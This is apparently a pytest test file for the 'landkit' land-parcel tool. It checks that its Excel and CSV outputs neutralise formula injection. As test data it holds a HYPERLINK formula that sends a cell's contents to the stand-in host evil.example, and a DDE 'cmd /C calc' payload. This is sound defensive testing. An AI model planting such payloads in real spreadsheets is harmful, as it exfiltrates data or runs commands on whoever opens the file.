"""Every spreadsheet and CSV landkit writes carries data as inert text and reads back as written.

The attack (issue 11): a parcel id, unit, zone name or note starting with ``=``, ``+``, ``-`` or
``@`` became a live formula in every .xlsx landkit wrote; CSV outputs had the same exposure.
Each writer is driven here with such values and the file is opened independently (openpyxl
cell types, the csv module) to check no cell is a formula and every value is intact.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import warnings
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from shapely.geometry import box

from landkit import _sheets
from landkit.cli.main import cli
from landkit.errors import DataFormatError, LandkitWarning, OutputExistsError, ValidationError
from landkit.io import read_parcels, write_parcels

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "sample_data"

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
PAYLOADS = [LEAK, "+1", "-1+2", "@SUM(1,1)", "=1+1", "'=quoted already", "\t=1", "-3"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert_xlsx(path: Path, expected: list[str]) -> None:
    cells = xlsx_cells(path)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"{path.name}: formula cells {formulas}"
    texts = {c.value for c in cells if c.data_type == "s"}
    missing = [e for e in expected if e not in texts]
    assert missing == [], f"{path.name}: values altered or lost: {missing}"


def csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert_csv_text(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell.startswith(TRIGGERS) and not _is_number(cell)]
    assert live == [], f"cells a spreadsheet would evaluate: {live}"


# -- the writers themselves ---------------------------------------------------------------------


def test_workbook_cells_headers_and_index_stay_text(tmp_path: Path) -> None:
    table = pd.DataFrame({"=cmd": PAYLOADS, "数": range(len(PAYLOADS))}, index=pd.Index(PAYLOADS, name="@i"))
    out = _sheets.write_workbook(tmp_path / "a.xlsx", {"表": table, "二": table}, index=True)
    assert_inert_xlsx(out, [*PAYLOADS, "=cmd", "@i"])
    back = pd.read_excel(out, sheet_name="表", index_col=0)
    assert back["=cmd"].tolist() == PAYLOADS
    assert back["数"].tolist() == list(range(len(PAYLOADS)))  # numbers stay numbers
    with pytest.raises(OutputExistsError):
        _sheets.write_workbook(out, {"表": table})


def test_workbook_control_characters_become_visible_and_warn(tmp_path: Path) -> None:
    table = pd.DataFrame({"宗地代码": ["4312\x0b81", "ok\x00", "tab\tand\nnewline"]})
    with pytest.warns(LandkitWarning, match="2 control character"):
        out = _sheets.write_workbook(tmp_path / "c.xlsx", {"s": table})
    values = pd.read_excel(out)["宗地代码"].tolist()
    assert values == ["4312\u240b81", "ok\u2400", "tab\tand\nnewline"]  # tab/newline are legal and kept


def test_workbook_refuses_what_excel_would_cut(tmp_path: Path) -> None:
    long = pd.DataFrame({"a": ["x" * (_sheets.EXCEL_MAX_CHARS + 1)]})
    with pytest.raises(DataFormatError, match="32767"):
        _sheets.write_workbook(tmp_path / "l.xlsx", {"s": long})
    assert list(tmp_path.iterdir()) == []  # refused before anything was written


def test_csv_neutralises_and_reads_back_equal(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "=h": PAYLOADS,
            "num": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -8.25],
            "plain": ["洪江"] * len(PAYLOADS),
        }
    )
    out = _sheets.write_csv(tmp_path / "a.csv", table)
    rows = csv_rows(out)
    assert_inert_csv_text(rows)
    assert rows[0][0] == "'=h"
    assert rows[1][0].startswith("'=HYPERLINK")
    assert rows[1][1] == "-1.5"  # a negative number is data, not a formula: unchanged
    pd.testing.assert_frame_equal(_sheets.read_csv(out), table)
    assert_inert_csv_text(list(csv.reader(_sheets.csv_text(table).splitlines())))


# -- every landkit output that is a spreadsheet --------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Thirty sample parcels whose id, name and unit are formula payloads."""
    src = read_parcels(SAMPLE / "parcels.gpkg").head(30).copy()
    src.loc[src.index[0], "parcel_id"] = LEAK
    src.loc[src.index[1], "parcel_id"] = "+431281"
    src["name"] = src["name"].astype(object)
    src.loc[src.index[0], "name"] = "@SUM(1,1)"
    src["responsible_unit"] = "-1+2"
    out = tmp_path_factory.mktemp("hostile") / "hostile.gpkg"
    write_parcels(src, out)
    return out


def run(*args: object) -> str:
    res = CliRunner().invoke(cli, [str(a) for a in args])
    assert res.exit_code == 0, res.output
    return res.output


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cli_outputs_are_inert(hostile: Path, tmp_path: Path, suffix: str) -> None:
    outs = {
        "validate": tmp_path / f"v{suffix}",
        "zones": tmp_path / f"z{suffix}",
        "rules": tmp_path / f"r{suffix}",
        "raster": tmp_path / f"t{suffix}",
        "recommend": tmp_path / f"m{suffix}",
    }
    run("validate", hostile, "-o", outs["validate"])
    run("zones", "join", hostile, "--zones", SAMPLE / "zones" / "hongjiang.toml", "-o", outs["zones"])
    run("rules", "idle", hostile, "--as-of", "2024-12-31", "-o", outs["rules"])
    run("raster", "stats", hostile, SAMPLE / "dem" / "hongjiang_dem_4546.tif", "-o", outs["raster"])
    run("recommend", hostile, "--demand", SAMPLE / "demand" / "new_materials_30_60mu.toml", "--all",
        "--zones", SAMPLE / "zones" / "hongjiang.toml", "-o", outs["recommend"])  # fmt: skip
    for name, out in outs.items():
        expected = [LEAK, "+431281"] if name != "validate" else []
        if suffix == ".xlsx":
            assert_inert_xlsx(out, expected)
        else:
            assert_inert_csv_text(csv_rows(out))
            back = _sheets.read_csv(out)
            values = {v for c in back.columns for v in back[c].astype(str)}
            assert set(expected) <= values, f"{name}: payload altered"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_indicator_tables_are_inert(tmp_path: Path, suffix: str) -> None:
    from landkit.cli.indicators import _write

    table = pd.DataFrame({"批次": PAYLOADS, "面积(亩)": range(len(PAYLOADS))})
    out = tmp_path / f"i{suffix}"
    _write(table, out, sheet="批而未供", overwrite=False)
    if suffix == ".xlsx":
        assert_inert_xlsx(out, PAYLOADS)
    else:
        assert_inert_csv_text(csv_rows(out))
        pd.testing.assert_frame_equal(_sheets.read_csv(out), table)


def test_stdout_csv_is_inert(hostile: Path) -> None:
    text = run("rules", "idle", hostile, "--as-of", "2024-12-31")
    rows = list(csv.reader(text.splitlines()))
    assert_inert_csv_text(rows)
    assert rows[1][0] == "'" + LEAK


def test_clear_down_report_is_inert_on_every_sheet(tmp_path: Path) -> None:
    from landkit.ledger import Ledger, write_progress_excel, write_progress_html

    ids = [LEAK, "+431281", "431281101001GB00003"]
    reg = gpd.GeoDataFrame(
        {
            "parcel_id": ids,
            "status": ["identified"] * 3,
            "categories": ["idle"] * 3,
            "responsible_unit": ["=1+1", "@unit", "-2"],
            "township": ["-x", "+y", "=z"],
        },
        geometry=[box(400000 + 200 * i, 3010000, 400100 + 200 * i, 3010100) for i in range(3)],
        crs=4546,
    )
    ledger = Ledger(tmp_path / "l.gpkg")
    ledger.record(reg, as_of="2024-03-31", source="=cmd|' /C calc'!A0", validate=False)
    ledger.record(
        reg.iloc[1:].assign(status="revitalized"), as_of="2024-06-30", source="季度", validate=False
    )
    p = ledger.progress(baseline="2024-03-31", target_date="2024-12-31", zones="township")
    out = write_progress_excel(p, tmp_path / "r.xlsx", changes=ledger.changes("2024-03-31", "2024-06-30"))
    assert_inert_xlsx(out, [*ids, "=1+1", "@unit", "-2", "=z"])
    assert len(openpyxl.load_workbook(out).worksheets) >= 4
    page = write_progress_html(p, tmp_path / "r.html").read_text(encoding="utf-8")
    assert html.escape(LEAK, quote=False) in page  # the disappeared parcel is listed, escaped
    assert LEAK not in page


def test_write_parcels_tables_are_inert_and_round_trip(tmp_path: Path) -> None:
    g = gpd.GeoDataFrame(
        {"parcel_id": [LEAK, "+1", "-2"], "note": ["@x", "'=y", "普通"]},
        geometry=[box(400000, 3010000 + i, 400100, 3010100 + i) for i in range(3)],
        crs=4546,
    )
    xlsx = write_parcels(g, tmp_path / "p.xlsx")
    assert_inert_xlsx(xlsx, [LEAK, "+1", "-2", "@x", "'=y"])
    out = write_parcels(g, tmp_path / "p.csv")
    assert_inert_csv_text(csv_rows(out))
    back = _sheets.read_csv(out)
    assert back["parcel_id"].tolist() == g["parcel_id"].tolist()
    assert back["note"].tolist() == g["note"].tolist()


def test_ledger_refuses_control_characters_in_ids(tmp_path: Path) -> None:
    from landkit.ledger import Ledger

    reg = gpd.GeoDataFrame(
        {"parcel_id": ["A\x0bB", "C"], "status": ["identified"] * 2, "categories": ["idle"] * 2},
        geometry=[box(400000, 3010000, 400100, 3010100), box(400200, 3010000, 400300, 3010100)],
        crs=4546,
    )
    ledger = Ledger(tmp_path / "l.gpkg")
    with pytest.raises(ValidationError, match=r"control characters.*'A\\x0bB'"):
        ledger.record(reg, as_of=dt.date(2024, 3, 31), source="x", validate=False)
    assert ledger.snapshots().empty
    # surrounding whitespace (a trailing newline from an Excel cell) is trimmed, not refused
    ok = reg.assign(parcel_id=["A\n", "C"])
    assert ledger.record(ok, as_of="2024-03-31", source="x", validate=False).n_parcels == 2
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        out = tmp_path / "r.xlsx"
        from landkit.ledger import write_progress_excel

        write_progress_excel(ledger.progress(baseline="2024-03-31", target_date="2024-12-31"), out)
    assert "A" in {c.value for c in xlsx_cells(out)}
